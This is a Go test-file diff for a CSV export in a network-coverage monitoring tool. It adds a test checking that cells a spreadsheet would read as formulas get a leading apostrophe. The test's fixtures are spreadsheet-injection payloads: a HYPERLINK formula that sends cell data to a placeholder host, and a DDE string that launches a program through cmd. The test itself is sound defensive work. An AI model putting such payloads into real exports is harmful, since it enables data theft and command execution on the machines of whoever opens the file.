@@ -9,6 +9,7 @@ import (
 	"time"
 
 	"github.com/paulmach/orb"
+	"github.com/paulmach/orb/geojson"
 
 	"github.com/covmon/covmon/geo"
 )
@@ -81,5 +82,54 @@ func TestWriteCSV(t *testing.T) {
 	}
 	if !strings.Contains(buf.String(), "Thôn Nà Ản") {
 		t.Error("diacritics lost")
+	}
+}
+
+// A text cell that a spreadsheet would read as a formula (=, +, -, @, tab, CR first) is
+// written with a leading apostrophe: a carrier's plans file names its own site_id, and the
+// ministry opens the export in Excel. Numbers, dates and the other cells are unchanged.
+func TestWriteCSV_FormulaCells(t *testing.T) {
+	f := geojson.NewFeature(orb.Point{-105.5, 23.1})
+	f.Properties = geojson.Properties{
+		"village_id": "V02-0001", "name": "Thôn Nà Ản",
+		"site_id":              `=HYPERLINK("http://example.invalid/?"&A1,"xem")`,
+		"commune_name":         "+cmd|' /C calc'!A0",
+		"province_name":        "@SUM(1+1)",
+		"responsible_carrier":  "-2+3",
+		"reason":               "\tx",
+		"carriers_with_signal": []string{"=1+1", "viettel"},
+		"carriers_reported":    []string{"viettel", "=1+1"},
+		"days_overdue":         -3, "days_late": -2.5,
+		"last_observed_at": "2026-10-01T00:00:00+07:00",
+	}
+	fc := geojson.NewFeatureCollection()
+	fc.Append(f)
+	var buf bytes.Buffer
+	if err := WriteCSV(&buf, fc); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes()[3:])).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	get := func(col string) string { return rows[1][slices.Index(rows[0], col)] }
+	for col, want := range map[string]string{
+		"site_id":              `'=HYPERLINK("http://example.invalid/?"&A1,"xem")`,
+		"commune_name":         "'+cmd|' /C calc'!A0",
+		"province_name":        "'@SUM(1+1)",
+		"responsible_carrier":  "'-2+3",
+		"reason":               "'\tx",
+		"carriers_with_signal": "'=1+1;viettel",
+		"carriers_reported":    "viettel;=1+1",
+		"name":                 "Thôn Nà Ản",
+		"village_id":           "V02-0001",
+		"lon":                  "-105.5",
+		"days_overdue":         "-3",
+		"days_late":            "-2.5",
+		"last_observed_at":     "2026-10-01T00:00:00+07:00",
+	} {
+		if got := get(col); got != want {
+			t.Errorf("%s = %q, want %q", col, got, want)
+		}
 	}
 }
